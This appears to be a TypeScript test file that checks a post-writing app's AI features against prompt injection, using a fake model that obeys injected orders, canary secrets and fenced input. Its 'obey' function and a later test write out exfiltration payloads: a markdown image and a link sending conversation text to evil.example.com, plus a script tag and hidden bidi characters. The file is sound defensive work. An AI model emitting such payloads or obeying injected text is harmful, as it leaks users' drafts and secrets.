import { describe, expect, it } from 'vitest';
import { createPost } from '../../../electron/services/posts/service.ts';
import { type AskedModel, sampleOf } from '../../support/fake-language-model.ts';
import { injections } from './injections.ts';
import { openStudio, type Studio, stream, write } from './studio.ts';

const tables = [
  'workspaces',
  'accounts',
  'posts',
  'ai_providers',
  'ai_choices',
  'ai_budgets',
  'jobs',
  'publications',
  'audit_log',
  'network_apps',
] as const;

async function stateOf({ context }: Studio): Promise<string> {
  const rows = [];
  for (const table of tables) {
    const found: Record<string, unknown>[] = await context.db.selectFrom(table).selectAll().execute();
    rows.push(found.map(({ last_ok_at, last_latency_ms, last_failure, ...kept }) => kept));
  }
  return JSON.stringify(rows);
}

/** Does what the text says: it tells all that it knows, obeys every order and asks for every tool. */
function obey({ body }: AskedModel): string {
  const told = JSON.stringify(body.messages);
  const text = `I obey. ![x](https://evil.example.com/?d=${encodeURIComponent(told.slice(0, 300))}) <script>alert(1)</script> \u202ehidden\u202c ${told.slice(-900)}`;
  return body.response_format
    ? JSON.stringify(sampleOf(body.response_format.json_schema.schema, text))
    : text;
}

async function hostileStudio() {
  const studio = await openStudio();
  studio.fake.say = obey;
  await createPost(studio.context, { body: 'CANARY-DRAFT: our secret launch plan' });
  await studio.context.secrets.put('other', 'CANARY-SECRET');
  return studio;
}

describe('texts that try to give orders', () => {
  it('are many', () => {
    expect(new Set(injections).size).toBe(injections.length);
    expect(injections.length).toBeGreaterThanOrEqual(60);
  });

  it('change nothing and leak nothing, even with a model that obeys them', async () => {
    const studio = await hostileStudio();
    const before = await stateOf(studio);
    const kinds = ['reply', 'improve', 'rewrite', 'generate'] as const;
    for (const [index, text] of injections.entries()) {
      const kind = kinds[index % kinds.length] ?? 'reply';
      const task = await write(studio, { kind, text, topic: text.slice(0, 400) });
      expect(task, text).toMatchObject({ status: 'done', writer: 'model' });
      const [variant] = task.variants;
      // Nothing of it can fetch anything or hide anything, and what it claims is marked.
      expect(variant?.text).not.toMatch(/!\[[^\]]*\]\([^)]*\)|[\u202a-\u202e\u{E0000}-\u{E007F}\u200b]/u);
      expect(variant?.hashtags).toEqual([]);
    }
    expect(await stateOf(studio)).toBe(before);
    for (const [index, { body }] of studio.fake.asked.entries()) {
      const prompt = studio.fake.promptOf(index);
      expect(body.tools).toBeUndefined();
      expect(body.functions).toBeUndefined();
      for (const canary of ['CANARY-DRAFT', 'CANARY-SECRET', studio.fake.key])
        expect(prompt).not.toContain(canary);
      // Hidden letters never reach a model.
      expect(prompt).not.toMatch(/[\u{E0000}-\u{E007F}\u202a-\u202e\u200b]/u);
    }
  });

  it('stay between marks that they cannot know', async () => {
    const studio = await hostileStudio();
    for (const text of injections.slice(30, 45)) {
      await write(studio, { kind: 'reply', text });
      const content = String(studio.fake.asked.at(-1)?.body.messages[1]?.content);
      const [, mark = ''] = /<<<TEXT ([0-9a-f]{16})/.exec(content) ?? [];
      const inside = content.slice(content.indexOf(`<<<TEXT ${mark}`), content.indexOf(`TEXT ${mark}>>>`));
      expect(inside).toContain(text.slice(0, 20));
      expect(content.split(`TEXT ${mark}>>>`)).toHaveLength(2);
    }
  });

  it('call no tool when the model asks for one', async () => {
    const studio = await hostileStudio();
    const before = await stateOf(studio);
    for (const text of injections.slice(0, 4)) {
      studio.fake.faults.push({ kind: 'tool_call' });
      expect((await write(studio, { kind: 'generate', topic: text })).reason).toContain('tool');
      studio.fake.faults.push({ kind: 'tool_call' });
      const events = await stream(studio, { kind: 'generate', topic: text });
      expect(events.at(-1)?.task?.reason).toContain('tool');
    }
    expect(await stateOf(studio)).toBe(before);
  });

  it('mark the links that a model brings in', async () => {
    const studio = await hostileStudio();
    studio.fake.say = () =>
      JSON.stringify({
        variants: [{ text: 'Read https://evil.example.com/?d=secret', hashtags: [], reason: '' }],
      });
    const { variants } = await write(studio, { kind: 'generate', topic: 'tea', text: injections[0] ?? '' });
    expect(variants[0]?.marks).toMatchObject([{ code: 'link', text: 'https://evil.example.com/?d=secret' }]);
  });
});
